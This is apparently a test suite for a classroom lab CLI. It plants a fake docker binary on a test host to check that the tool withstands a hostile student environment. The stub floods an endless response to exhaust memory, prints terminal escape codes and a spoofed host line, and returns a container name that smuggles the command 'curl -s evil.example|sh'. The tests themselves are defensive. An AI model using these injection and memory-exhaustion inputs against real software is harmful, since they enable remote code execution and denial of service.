// A real host whose student put a docker of their own in its place: its answers go to the lab command, and its streams to the provider.
import { join } from "node:path";
import { runWatched } from "./hostile-process-tree";
import { KitHosts } from "./kit-hosts";
import { LabCommand } from "./lab-command";
import { engine, kit, projectFolder, provider, suite, terraformBinary } from "./needs";

/** Serves the provider an Engine that pings well and then answers a string that never ends. */
const docker = `#!/bin/bash
case "$1 $2" in
"version --format") printf '29.1.0\\n' ;;
"system dial-stdio")
  while read -r line; do
    line=\${line%$'\\r'}
    case $line in
    *_ping*) ping=1 ;;
    "")
      if [ -n "$ping" ]; then printf 'HTTP/1.1 200 OK\\r\\nApi-Version: 1.45\\r\\nContent-Length: 2\\r\\n\\r\\nOK'; ping=; continue; fi
      printf 'HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\n\\r\\n"'
      exec tr '\\0' x </dev/zero
      ;;
    esac
  done
  ;;
"ps "*) echo aaaa ;;
"inspect "*) printf '\\033[2J\\nlee  10.0.0.1  up\\n{"name":"/web; curl -s evil.example|sh #"}\\n' ;;
esac
exit 0
`;

suite("a host with a docker of its student's", [engine, kit("host"), terraformBinary, provider("docker")], () => {
  const hosts = new KitHosts("lab-hostile");
  const lab = new LabCommand();
  const run = (...words: string[]) => runWatched(join(projectFolder, "cli/lab.mjs"), words, lab.folder, { ...lab.env, NO_COLOR: "1" });
  const machine = (address: string) => `{ address: ${address}, identity: ${hosts.key} }`;

  beforeAll(async () => {
    const [kim, lee] = [await hosts.up("kim"), await hosts.up("lee")];
    hosts.inside("kim", `cat > /usr/local/bin/docker <<'EOF'\n${docker}EOF\nchmod +x /usr/local/bin/docker`);
    lab.write(
      `name: hostile\nlanguage: en\ntarget: { hosts: { kim: ${machine(kim)}, lee: ${machine(lee)} } }\ndocker: { pull: false }\nscenarios: [nginx]\n`,
    );
  });
  afterAll(() => hosts.down());

  const harmless = ({ stdout, stderr, megabytes }: Awaited<ReturnType<typeof run>>) => {
    for (const text of [stdout, stderr]) expect(/(?!\n)\p{Cc}/u.exec(text)?.[0]).toBeUndefined();
    expect(stdout).not.toMatch(/^lee +10\.0\.0\.1/m);
    expect(megabytes).toBeLessThan(1000);
  };

  test("keeps neither the other student from their lab nor the laptop from its memory", async () => {
    const up = await run("up", "--yes");
    harmless(up);
    expect(up.code).toBe(1);
    expect(up.stdout).toMatch(/^lee +[\d.]+ +up$/m);
    expect(up.stdout).toMatch(/^kim +[\d.]+ +not usable$/m);
    expect(up.seconds).toBeLessThan(240);
  });

  test("writes nothing into the class's status and checks", async () => {
    const status = await run("status");
    harmless(status);
    expect(status.stdout).toMatch(/^kim +[\d.]+ +not usable\nlee +[\d.]+ +up$/m);
    expect(status.stderr).toContain("kim: its docker command does not answer like a Docker Engine: ");
    const check = await run("check", "--timeout", "20");
    harmless(check);
    expect(check.seconds).toBeLessThan(240);
  });

  test("an Engine whose API never ends a string takes no memory through the provider", async () => {
    // an honest answer to the inspection, so that the provider gets as far as its API
    hosts.inside("kim", `sed -i '/^"inspect /d; s/^"ps .*/"ps "*) ;;/' /usr/local/bin/docker`);
    const up = await run("up", "--yes", "--on", "kim");
    harmless(up);
    expect(up.code).toBe(1);
    expect(up.seconds).toBeLessThan(240);
  });
});
